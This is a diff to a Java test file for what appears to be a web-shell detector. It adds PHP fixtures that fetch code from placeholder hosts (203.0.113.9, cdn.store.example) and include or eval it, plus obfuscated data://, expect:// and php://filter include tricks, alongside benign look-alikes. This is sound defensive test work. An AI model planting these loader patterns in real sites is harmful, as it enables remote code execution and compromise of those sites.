@@ -107,6 +107,51 @@ final class WebShellFlowTest {
         $text = get('http' . '://203.0.113.9/z'); eval('?>' . $text);
 
         <?php $s = fsockopen('203.0.113.9', 80); fwrite($s, "GET /q"); $r = fgets($s); $f = create_function('', $r); $f();
+
+        <?php $at = sys_get_temp_dir() . '/k'; file_put_contents($at, file_get_contents('https://cdn.store.example/k')); require_once $at;
+
+        <?php $c = curl_init('https://cdn.store.example/k'); $b = curl_exec($c); $n = tempnam('/tmp', 'a'); $h = fopen($n, 'w'); fwrite($h, $b); fclose($h); include($n);
+
+        <?php copy('http://203.0.113.9/z.txt', $n = '/tmp/z'); include $n;
+        """;
+
+    /** Pages that include what is no file (PHP manual, Supported Protocols and Wrappers): drop-ins of WordPress that a drill planted. */
+    private static final String STREAMS = """
+        <?php include 'data:text/plain;base64,PD9waHAgcGhwaW5mbygpOw==';
+
+        <?php @include_once("data://text/plain," . urlencode($t));
+
+        <?php $k = 'data:text/plain;base64,' . strrev($x); if (!defined('A')) { require $k; }
+
+        <?php $k = 'da' . 'ta' . '://text/plain;base64,'; include($k . get_option('z'));
+
+        <?php $p = "da"; $q = "data:text/plain,"; include "$q$body";
+
+        <?php include 'expect://id';
+
+        <?php require('php://filter/convert.base64-decode/resource=' . __DIR__ . '/logo.gif');
+
+        <?php $way = 'PHP://filter/read=string.rot13/resource=a.txt'; return include $way;
+
+        <?php $k = base64_decode('ZGF0YTp0ZXh0L3BsYWluLGE='); include $k;
+
+        <?php include 'p' . 'hp://fil' . 'ter/convert.base64-decode/resource=x';
+        """;
+
+    private static final String NO_STREAMS = """
+        <?php include 'data/list.php'; include __DIR__ . '/data.php'; require_once 'expect.php';
+
+        <?php $src = 'data:image/png;base64,' . base64_encode($raw); echo "<img src='$src'>"; include $template;
+
+        <?php $text = file_get_contents('php://filter/read=string.toupper/resource=a.txt'); include $page;
+
+        <?php $part = 'd' . $n; $page = 'p' . $n . '.php'; include $page;
+
+        <?php /* include 'data:…' is off since allow_url_include is */ header('Content-Type: text/plain'); include $theme;
+
+        <?php $body = file_get_contents('https://www.data.example/api'); file_put_contents($cache, $body); include $template;
+
+        <?php $h = fopen($log, 'a'); fwrite($h, file_get_contents('https://www.data.example/api')); include $page;
         """;
 
     private static final String NO_FETCHERS = """
@@ -147,6 +192,7 @@ final class WebShellFlowTest {
     void whatARequestGivesIsFollowedToWhereItIsRun() {
         assertEquals(List.of(), silent("x.php", SHELLS));
         assertEquals(List.of(), silent("x.php", FETCHERS));
+        assertEquals(List.of(), silent("x.php", STREAMS));
         assertEquals(List.of(), silent("x.jsp", JSP));
         assertEquals(List.of(), silent("x.aspx", ASPX));
     }
@@ -224,6 +270,7 @@ final class WebShellFlowTest {
     void theirHarmlessNeighboursAreNoItems() {
         assertEquals(pages(PAGES), silent("x.php", PAGES));
         assertEquals(pages(NO_FETCHERS), silent("x.php", NO_FETCHERS));
+        assertEquals(pages(NO_STREAMS), silent("x.php", NO_STREAMS));
         String jsp =
                 "<% Class.forName(\"org.postgresql.Driver\"); new FileOutputStream(\"/tmp/log\"); out.print(\"a\" + \"b\"); %>";
         String aspx =
